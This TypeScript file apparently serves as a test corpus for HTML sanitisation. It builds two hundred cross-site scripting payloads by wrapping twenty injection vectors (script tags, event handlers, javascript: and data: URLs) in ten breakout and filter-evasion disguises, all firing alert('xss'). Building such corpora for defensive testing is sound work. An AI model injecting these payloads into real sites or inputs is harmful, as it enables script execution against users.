// Two hundred texts that would run as scripts if a page inserted them as HTML: twenty payloads, each in ten disguises.
const RUNS = "alert('xss')";

const VECTORS = [
  `<script>${RUNS}</script>`,
  `<img src=x onerror="${RUNS}">`,
  `<svg onload="${RUNS}">`,
  `<svg><script>${RUNS}</script></svg>`,
  `<body onload="${RUNS}">`,
  `<iframe srcdoc="<script>parent.${RUNS}</script>"></iframe>`,
  `<iframe src="javascript:parent.${RUNS}"></iframe>`,
  `<details open ontoggle="${RUNS}">x</details>`,
  `<input autofocus onfocus="${RUNS}">`,
  `<a href="javascript:${RUNS}">x</a>`,
  `<math><mi xlink:href="javascript:${RUNS}">x</mi></math>`,
  `<video><source onerror="${RUNS}"></video>`,
  `<audio src=x onerror="${RUNS}">`,
  `<marquee onstart="${RUNS}">x</marquee>`,
  `<object data="javascript:${RUNS}"></object>`,
  `<embed src="data:text/html,<script>${RUNS}</script>">`,
  `<meta http-equiv=refresh content="0;url=javascript:${RUNS}">`,
  `<style>@import 'javascript:${RUNS}';</style>`,
  `<template><script>${RUNS}</script></template>`,
  `<p style="animation:x" onanimationstart="${RUNS}">`,
] as const;

const WAYS: readonly ((vector: string) => string)[] = [
  (vector) => vector,
  (vector) => `">${vector}`,
  (vector) => `'>${vector}`,
  (vector) => `</textarea>${vector}`,
  (vector) => `</title></script>${vector}`,
  (vector) => `-->${vector}`,
  (vector) => `<secondary>${vector}</secondary>`,
  (vector) => `{{Student Name}}${vector}`,
  (vector) => vector.replaceAll("<", "&lt;").replaceAll(">", "&gt;"),
  (vector) => vector.replace(/<(\w)/, "<\u0000$1").replaceAll("on", "oN"),
];

export const PAYLOADS: readonly string[] = VECTORS.flatMap((vector) => WAYS.map((way) => way(vector)));

/** So many of them, covering every payload and every disguise. */
export function somePayloads(many: number): string[] {
  return PAYLOADS.filter(
    (_, at) => Math.floor((at * many) / PAYLOADS.length) !== Math.floor(((at - 1) * many) / PAYLOADS.length),
  );
}
